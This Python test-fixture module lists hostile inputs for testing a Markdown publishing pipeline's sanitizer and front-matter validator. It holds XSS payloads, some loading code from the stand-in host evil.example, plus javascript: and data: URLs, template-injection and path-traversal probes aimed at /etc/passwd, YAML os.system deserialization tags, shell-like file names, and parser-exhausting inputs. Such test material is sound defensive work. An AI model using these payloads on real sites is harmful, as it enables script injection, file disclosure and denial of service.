"""The hostile inputs as data: what an attacker, or a bad paste, may write, and where. `canary` is what a script would call."""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable

RUN = "canary(1)"

WORDS = {
    "script": [
        f"<script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"<!--<script>{RUN}</script>-->",
        f"--><script>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<SCRIPT/x>{RUN}</SCRIPT >",
        f"]]><script>{RUN}</script>",
        f"</textarea></style></noscript><script>{RUN}</script>",
        "<script src=//evil.example/x.js></script>",
        "<script src=data:text/javascript,canary(1)></script>",
    ],
    "handler": [
        f"<img src=hinh.png onload={RUN} onerror={RUN}>",
        f'"><img src=hinh.png onload="{RUN}">',
        f"'><img src=hinh.png onload='{RUN}'>",
        f'" onfocus="{RUN}" autofocus tabindex=1 x="',
        f"' onmouseover='{RUN}' x='",
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<body onload={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<marquee onstart={RUN}>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>",
        f"`\"'><img src=hinh.png onload={RUN} onerror={RUN}>`",
        f"<a href=/ onclick={RUN}>x",
    ],
    "element": [
        "<iframe src=javascript:parent.canary(1)></iframe>",
        "<object data=javascript:canary(1)></object>",
        "<embed src=javascript:canary(1)>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=//evil.example/><button>x",
        "<svg><use href='data:image/svg+xml,<svg onload=canary(1)>'></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>",
        "<plaintext>",
        "<template><script>canary(1)</script></template>",
        "<noscript><p title='</noscript><img src=hinh.png onload=canary(1)>'>",
        "<img src=//evil.example/x.png>",
        "<xmp><script>canary(1)</script></xmp>",
    ],
    "template": [
        "{{ 7*191 }}",
        "{% include '/etc/passwd' %}",
        "{{ site.__class__.__mro__ }}",
        "{{ self._TemplateReference__context }}",
        "${7*191} #{7*191} <%= 7*191 %>",
    ],
    "character": [
        "\u202e<script>canary(1)</script>",
        "＜script＞canary(1)＜/script＞",
        "&lt;script&gt;canary(1)&lt;/script&gt;",
        "&#60;script&#62;canary(1)&#60;/script&#62;",
        "\u2028<img src=hinh.png onload=canary(1)>",
        "\x7f<img\x0bsrc=hinh.png\x0conload=canary(1)>",
        "a\u00a0<img\u00a0src=hinh.png\u00a0onload=canary(1)>",
        "\x02wzxhzdk:0\x03 \x02klzzwxh:0\x03 \x02amp\x03",
    ],
}
"""Kind -> words that may stand wherever an editor writes words."""

ADDRESSES = {
    "scheme": [
        "javascript:canary(1)",
        "JaVaScRiPt:canary(1)",
        "java\tscript:canary(1)",
        "&#106;avascript:canary(1)",
        "javascript&colon;canary(1)",
        "&#x6A;&#x61;vascript:canary(1)",
        "\x01javascript:canary(1)",
        "vbscript:canary(1)",
        "data:text/html,<script>canary(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
        "blob:canary",
        "file:///etc/passwd",
        "feed:javascript:canary(1)",
        "view-source:javascript:canary(1)",
        "javascript://%0acanary(1)",
        "https:javascript:canary(1)",
    ],
}
"""Kind -> addresses with a scheme, for links."""

HEADERS = (
    "title",
    "summary",
    "author",
    "image_alt",
    "image_caption",
    "image_credit",
    "update_note",
    "tag",
    "attachment",
    "withdrawn",
)
"""Places of the front matter."""

PLACES: dict[str, Callable[[str], str]] = {
    "paragraph": lambda words: words,
    "inside": lambda words: f"Đại biểu {words} phát biểu.",
    "heading": lambda words: f"## {words}",
    "link text": lambda words: f"[{words}](/)",
    "link title": lambda words: "[x](/ '" + words.replace("'", "’") + "')",
    "alt": lambda words: f"![{words}](hinh.png)",
    "caption": lambda words: "![x](hinh.png '" + words.replace("'", "’") + " | " + words.replace("'", "’") + "')",
    "list": lambda words: f"- {words}\n- b",
    "quote": lambda words: f"> {words}",
    "callout": lambda words: f"> [!NOTE] {words}\n> {words}",
    "table": lambda words: f"| a | b |\n|---|---|\n| {words} | b |",
    "code": lambda words: f"```{words[:30]}\n{words}\n```\n\n`{words}`",
    "footnote": lambda words: f"a[^1]\n\n[^1]: {words}",
    "definition": lambda words: f"{words}\n:   {words}",
    "attribute list": lambda words: f'## a {{: title="{words}" }}',
    "html attribute": lambda words: '<abbr title="' + words + '">x</abbr>',
    "html block": lambda words: f"<div>\n{words}\n</div>",
    "reference": lambda words: f"[x][r]\n\n[r]: / '{words}'",
}
"""Places of the text: how the words stand there."""

LINKS: dict[str, Callable[[str], str]] = {
    "link": lambda to: f"[x]({to})",
    "angle": lambda to: f"[x](<{to}>)",
    "reference": lambda to: f"[x][r]\n\n[r]: <{to}>",
    "autolink": lambda to: f"<{to}>",
    "html": lambda to: f'<a href="{to}">x</a>',
    "attribute": lambda to: f'[x](/){{: href="{to}" }}',
    "picture": lambda to: f"![x]({to})",
    "html picture": lambda to: f'<img alt="" src="{to}">',
    "area": lambda to: f'<map><area href="{to}"></map>',
    "formaction": lambda to: f'<button formaction="{to}">x</button>',
}
"""Places of an address."""

NAMES = ("con1", "com1 x", "console", "nul-aux", "a..b", "-rf", "%2e%2e%2fx", "a;b", "$(x)", "`x`", "<img src=x onerror=canary(1)>", 'a"b', "a'b", "a#b", "a?b", "a&b", "__proto__", "x.html", "x.php", "lpt1.txt", "a b", "..a", "a\\..\\b", "C:x", "ａ")  # fmt: skip
"""Names of sources: nearly devices of Windows, paths in disguise, words of a shell, markup."""


class Refused(NamedTuple):
    """What must be told of, and never be published."""

    code: str
    front: dict[str, object]
    body: str = "x"


REFUSED = {
    "picture outside": Refused("BT404", {}, "![x](../../../../../../etc/passwd)"),
    "picture of the settings": Refused("BT404", {}, "![x](../../site_config.toml)"),
    "picture elsewhere": Refused("BT410", {}, "![x](https://evil.example/x.png)"),
    "picture without scheme": Refused("BT410", {}, "![x](//evil.example/x.png)"),
    "link outside": Refused("BT404", {}, "[x](../../../etc/passwd)"),
    "link outside, escaped": Refused("BT404", {}, "[x](%2e%2e/%2e%2e/%2e%2e/etc/passwd)"),
    "slug with a path": Refused("BT212", {"slug": "../../x"}),
    "slug with markup": Refused("BT212", {"slug": "<script>"}),
    "slug of dots": Refused("BT212", {"slug": ".."}),
    "slug of a device": Refused("BT315", {"slug": "nul"}),
    "tag of a device": Refused("BT315", {"tags": ["Côn"]}),
    "alias outside": Refused("BT213", {"aliases": ["/../../etc/x/"]}),
    "alias with a scheme": Refused("BT213", {"aliases": ["javascript:canary(1)"]}),
    "alias with markup": Refused("BT213", {"aliases": ["/<script>/"]}),
    "alias without a root": Refused("BT213", {"aliases": ["x/"]}),
    "alias of the manifest": Refused("BT213", {"aliases": ["/.bantin/manifest"]}),
    "alias of the manifest, encoded": Refused("BT213", {"aliases": ["/%2ebantin/manifest"]}),
    "alias outside, encoded": Refused("BT213", {"aliases": ["/%2e%2e/%2e%2e/etc/x/"]}),
    "alias outside, encoded twice": Refused("BT213", {"aliases": ["/%252e%252e/x/"]}),
    "alias of the home page": Refused("BT214", {"aliases": ["/INDEX.HTML"]}),
    "alias of a device": Refused("BT213", {"aliases": ["/con/"]}),
    "alias with a dot at its end": Refused("BT213", {"aliases": ["/a."]}),
    "alias of a server's settings": Refused("BT213", {"aliases": ["/web.config"]}),
    "alias of a stream": Refused("BT213", {"aliases": ["/feed.xml::$DATA"]}),
    "alias of a short name": Refused("BT213", {"aliases": ["/SITEMA~1.XML"]}),
    "alias of the search index": Refused("BT214", {"aliases": ["/tim-kiem/chi-muc/index.json"]}),
    "alias with an escape": Refused("BT213", {"aliases": ["/a%0Ab/"]}),
    "layout outside": Refused("BT217", {"layout": "../../../etc/passwd"}),
    "layout absolute": Refused("BT217", {"layout": "/etc/passwd"}),
    "unknown key": Refused("BT205", {"__class__": "x"}),
    "title of markup only": Refused("BT206", {"title": ""}),
    "tag of signs": Refused("BT220", {"tags": ["<>"]}),
    "category with a path": Refused("BT203", {"category": "../tin"}),
    "date of words": Refused("BT210", {"date": "<script>"}),
}
"""Name -> an article that is refused with this code."""

FRONTS = {
    "billion laughs": ("BT218", "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\ntitle: *c\n"),
    "python object": ("BT218", "title: !!python/object/apply:os.system [x]\n"),
    "python tag": ("BT218", "title: !<tag:yaml.org,2002:python/name:os.system> x\n"),
    "merge key": ("BT218", "x: &x {title: y}\n<<: *x\n"),
    "deep list": ("BT204", "title: " + "[" * 20_000 + "\n"),
    "deep mapping": ("BT204", "title: " + "{a: " * 5_000 + "\n"),
    "too long": ("BT204", "title: x\nsummary: " + "a" * 70_000 + "\n"),
    "same key": ("BT208", "title: x\ntitle: y\n"),
    "key that is a list": ("BT209", "? [a, b]\n: c\n"),
    "no mapping": ("BT209", "- a\n- b\n"),
}
"""Name -> code and front matter as it stands."""

BOMBS: dict[str, Callable[[], str]] = {
    "brackets": lambda: "a " + "[" * 60_000,
    "pictures": lambda: "a " + "![" * 40_000,
    "links": lambda: "a " + "[a](" * 40_000,
    "references": lambda: "x" + "[a][" * 40_000,
    "tags": lambda: "a " + "<a " * 60_000,
    "sections": lambda: "a " + "<![CDATA[" * 20_000,
    "addresses": lambda: "<a@b " * 40_000,
    "underlines": lambda: "a\n---\n" * 40_000,
    "definitions": lambda: "a\n" + ":   b\n" * 40_000,
    "footnotes": lambda: "a[^1] " * 20_000 + "\n\n[^1]: b",
    "notes in notes": lambda: "a[^0]\n\n" + "".join(f"[^{i}]: b[^{i + 1}]\n\n" for i in range(10_000)),
    "headings": lambda: "# a\n\n" * 30_000,
    "quotes": lambda: ">" * 50_000 + " a",
    "lists": lambda: "- " * 50_000 + "a",
    "stars": lambda: "*a **b" * 20_000,
    "ticks": lambda: " ".join("`" * i for i in range(1, 1_500)),
    "divs": lambda: "<div>" * 50_000,
    "comments": lambda: "<!--\n\n" * 40_000,
    "one word": lambda: "a" * 4_900_000 + "\n",
    "one line": lambda: "Đại biểu " * 350_000,
    "blanks": lambda: "a\n" + " " * 2_000_000 + "\nb",
    "a wide table": lambda: "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000 + "\n|" + "b|" * 20_000,
    "a long table": lambda: "|a|b|\n|-|-|\n" + "|*c*|d`e`|\n" * 20_000,
    "backslashes": lambda: "a" + "\\" * 200_000,
    "entities": lambda: "&#x" * 100_000,
    "items": lambda: "- a\n" * 1_000_000,
    "bold words": lambda: "**a** " * 500_000,
    "breaks": lambda: ("a" + " " * 60 + "\n") * 70_000,
    "tabs": lambda: "\t" * 1_000_000 + "a",
    "quoted lines": lambda: "> a\n\n" * 500_000,
    "rows": lambda: "|a|b|\n|-|-|\n" + "|c|d|\n" * 700_000,
}
"""Name -> a text that is meant to take all time or memory."""


def count() -> dict[str, int]:
    """Return how many inputs there are, by kind."""
    words = sum(map(len, WORDS.values()))
    return {
        "words in the front matter": words * len(HEADERS),
        "words in the text": words * len(PLACES),
        "addresses": sum(map(len, ADDRESSES.values())) * len(LINKS),
        "names": len(NAMES),
        "refused": len(REFUSED) + len(FRONTS),
        "bombs": len(BOMBS),
    }
